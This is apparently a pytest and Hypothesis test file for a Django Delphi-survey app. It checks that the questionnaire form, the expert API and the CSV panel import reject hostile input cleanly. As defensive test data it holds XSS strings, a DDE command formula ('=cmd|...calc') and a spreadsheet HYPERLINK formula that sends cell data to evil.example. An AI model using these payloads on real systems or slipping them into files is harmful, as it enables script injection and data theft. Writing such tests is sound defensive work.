"""Malformed, oversized and hostile input against the questionnaire (form and API) and the CSV panel
import: a clear 4xx or a per-row report, never a 5xx, nothing stored half, no script rendered."""

from __future__ import annotations

import json
from typing import Any

import pytest
from django.test import Client
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from foresight.delphi.models import Answer, Expert, Participant, Question, Response, Round, Study
from foresight.delphi.services.panel import MAX_CSV_BYTES, invitation_create, panel_import_csv
from foresight.delphi.services.rounds import round_open

pytestmark = pytest.mark.django_db
SCRIPT = "<script>alert(1)</script>"
HOSTILE = st.one_of(
    st.just(SCRIPT),
    st.just('"><img src=x onerror=alert(1)>'),
    st.just("=cmd|' /C calc'!A0"),
    st.just("\x00\x00"),
    st.just("x" * 5000),
    st.just("2035\x00"),
    st.just("cant_judge"),
    st.sampled_from(["1", "2", "3", "4", "5", "high", "medium", "low", "already", "never", "2030", "2049"]),
    st.text(max_size=40),
)
FIELDS = st.sampled_from(
    [
        "expertise",
        "importance",
        "competitiveness",
        "importance_why",
        "leader",
        "tech_year",
        "social_year",
        "policy_measures",
        "uncertainty",
        "rationale",
        "unknown_field",
        "csrfmiddlewaretoken",
    ]
)
FORMS = st.dictionaries(FIELDS, st.one_of(HOSTILE, st.lists(HOSTILE, max_size=4)), max_size=8)
SETTINGS = settings(
    max_examples=40, deadline=None, derandomize=True, suppress_health_check=list(HealthCheck), database=None
)


@pytest.fixture
def expert(study: Study, round1: Round, alice: Participant) -> Client:
    round_open(rnd=round1)
    browser = Client()
    browser.post(f"/delphi/{study.code}/join/", {"t": invitation_create(participant=alice)})
    return browser


def valid_everywhere() -> None:
    """Every stored answer is a well-formed one; every rationale within bounds and free of NUL."""
    for answer in Answer.objects.select_related("question"):
        q = answer.question
        if answer.cant_judge:
            assert q.allow_cant_judge
            continue
        codes = q.option_values()
        if q.qtype in (Question.Type.SCALE, Question.Type.SINGLE):
            assert answer.value_code in codes
        elif q.qtype == Question.Type.MULTI:
            assert set(answer.value_codes) <= set(codes) and answer.value_codes
            assert not q.max_choices or len(answer.value_codes) <= q.max_choices
        elif q.qtype == Question.Type.YEAR:
            assert answer.value_code in ("already", "never") or 2000 <= (answer.value_num or 0) <= 2100
    for rationale in Response.objects.values_list("rationale", flat=True):
        assert len(rationale) <= 1000 and "\x00" not in rationale


@given(form=FORMS, htmx=st.booleans())
@SETTINGS
def test_the_questionnaire_form_survives_hostile_input(
    expert: Client, study: Study, form: dict[str, Any], htmx: bool
) -> None:
    before = {(a.response_id, a.question_id): a.value_code for a in Answer.objects.all()}
    headers = {"HTTP_HX_REQUEST": "true"} if htmx else {}
    response = expert.post(f"/delphi/{study.code}/round/1/bci/save/", form, **headers)
    assert response.status_code in (200, 302, 400, 403), response.status_code
    body = response.content.decode()
    assert SCRIPT not in body and "onerror=alert" not in body.replace("onerror=alert(1)&gt;", "")
    valid_everywhere()
    if response.status_code == 403:  # only a missing/forged CSRF token gets here
        assert {(a.response_id, a.question_id): a.value_code for a in Answer.objects.all()} == before


@given(answers=st.dictionaries(FIELDS, st.one_of(HOSTILE, st.lists(HOSTILE, max_size=4), st.none())), rationale=HOSTILE)
@SETTINGS
def test_the_expert_api_is_all_or_nothing_under_hostile_input(
    expert: Client, study: Study, answers: dict[str, Any], rationale: str
) -> None:
    before = sorted(Answer.objects.values_list("response_id", "question_id", "value_code", "value_num", "cant_judge"))
    response = expert.patch(
        f"/api/v1/expert/{study.code}/rounds/1/topics/bci/",
        json.dumps({"answers": answers, "rationale": rationale}),
        content_type="application/json",
    )
    assert response.status_code in (200, 400), (response.status_code, response.content[:300])
    if response.status_code == 400:
        after = sorted(
            Answer.objects.values_list("response_id", "question_id", "value_code", "value_num", "cant_judge")
        )
        assert after == before  # one bad value stores nothing
    valid_everywhere()


ROWS = st.lists(
    st.lists(
        st.one_of(HOSTILE, st.emails().map(str), st.sampled_from(["university", "company", "CN", ""])), max_size=7
    ),
    max_size=6,
)
ENCODINGS = st.sampled_from(["utf-8", "utf-8-sig", "latin-1", "utf-16", "gb18030"])


@given(rows=ROWS, encoding=ENCODINGS, header=st.booleans())
@SETTINGS
def test_the_panel_import_is_all_or_nothing_under_hostile_files(
    study: Study, rows: list[list[str]], encoding: str, header: bool
) -> None:
    import csv
    import io

    buffer = io.StringIO()
    writer = csv.writer(buffer)
    if header:
        writer.writerow(["email", "name", "sector", "country", "organisation", "areas"])
    writer.writerows(rows)
    try:
        data = buffer.getvalue().encode(encoding)
    except UnicodeEncodeError:
        data = buffer.getvalue().encode("utf-8", "replace")
    experts, participants = Expert.objects.count(), Participant.objects.count()
    report = panel_import_csv(study=study, data=data)
    if report.ok:
        assert Participant.objects.count() > participants or report.existing
        for expert in Expert.objects.all():
            assert expert.name[:1] not in ("=", "+", "@") and "\x00" not in expert.name
    else:
        assert report.errors and all(isinstance(line, int) and message for line, message in report.errors)
        assert (Expert.objects.count(), Participant.objects.count()) == (experts, participants)


def test_an_oversized_panel_file_is_refused_whole(study: Study) -> None:
    data = b"email,name,sector\n" + b"a@example.org,A,company\n" * (MAX_CSV_BYTES // 20)
    report = panel_import_csv(study=study, data=data)
    assert not report.ok and "larger than" in report.errors[0][1]
    assert not Expert.objects.exists()


def test_free_text_that_looks_like_a_formula_is_exported_as_text(study: Study, catalog: Any) -> None:
    """What an expert typed reaches responses.csv, but a spreadsheet opening it shows text, not a formula."""
    import csv
    import io
    import zipfile

    from foresight.catalog.models import Topic
    from foresight.delphi.services.export import round_export_package
    from foresight.delphi.services.responses import response_save
    from tests.delphi.conftest import make_participant

    Question.objects.create(study=study, key="remarks", order=99, qtype=Question.Type.TEXT, label_en="Remarks")
    rnd = study.rounds.get(number=1)
    round_open(rnd=rnd)
    typed = {
        "alice@example.org": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "bob@example.org": "+1 and more, plainly",
        "carol@example.org": "A remark with = inside",
        "dan@example.org": "'quoted from the start",
    }
    topic = Topic.objects.get(code="bci")
    for email, text in typed.items():
        response_save(participant=make_participant(study, email), rnd=rnd, topic=topic, answers={"remarks": text})
    stored = set(Answer.objects.filter(question__key="remarks").values_list("value_text", flat=True))
    assert stored == set(typed.values())  # stored as typed

    package = zipfile.ZipFile(io.BytesIO(round_export_package(rnd=rnd)))
    rows = list(csv.DictReader(io.StringIO(package.read("responses.csv").decode())))
    exported = {row["value"] for row in rows if row["question"] == "remarks"}
    assert exported == {
        "'" + typed["alice@example.org"],
        "'" + typed["bob@example.org"],
        typed["carol@example.org"],
        "'" + typed["dan@example.org"],  # so that removing one leading quote always gives what was typed
    }


def nested(depth: int, leaf: str = "high") -> str:
    return "[" * depth + json.dumps(leaf) + "]" * depth


@pytest.mark.parametrize(
    "body",
    [
        nested(5000),
        '{"answers": {"expertise": ' + nested(5000) + "}}",
        '{"answers": ' + '{"a": ' * 5000 + "1" + "}" * 5001,
        '{"answers": {"expertise": ' + nested(40) + "}}",
    ],
    ids=["list-5000", "answer-5000", "object-5000", "answer-40"],
)
def test_a_deeply_nested_body_is_a_json_400(expert: Client, study: Study, body: str) -> None:
    response = expert.patch(f"/api/v1/expert/{study.code}/rounds/1/topics/bci/", body, content_type="application/json")
    assert response.status_code == 400, (response.status_code, response.content[:300])
    assert response["Content-Type"] == "application/json"
    assert "nested" in response.json()["detail"]
    assert not Answer.objects.exists()


def test_an_oversized_body_is_refused_with_a_json_error(expert: Client, study: Study) -> None:
    body = json.dumps({"answers": {"expertise": "high"}, "rationale": "x" * (10 * 1024 * 1024)})
    response = expert.patch(f"/api/v1/expert/{study.code}/rounds/1/topics/bci/", body, content_type="application/json")
    assert response.status_code == 413, (response.status_code, response.content[:300])
    assert response["Content-Type"] == "application/json"
    assert "too large" in response.json()["detail"]
    assert not Answer.objects.exists()


def test_an_ordinary_body_still_saves(expert: Client, study: Study) -> None:
    body = json.dumps({"answers": {"expertise": "high", "policy_measures": ["rd_funding"]}, "rationale": "Why."})
    response = expert.patch(f"/api/v1/expert/{study.code}/rounds/1/topics/bci/", body, content_type="application/json")
    assert response.status_code == 200, response.content[:300]
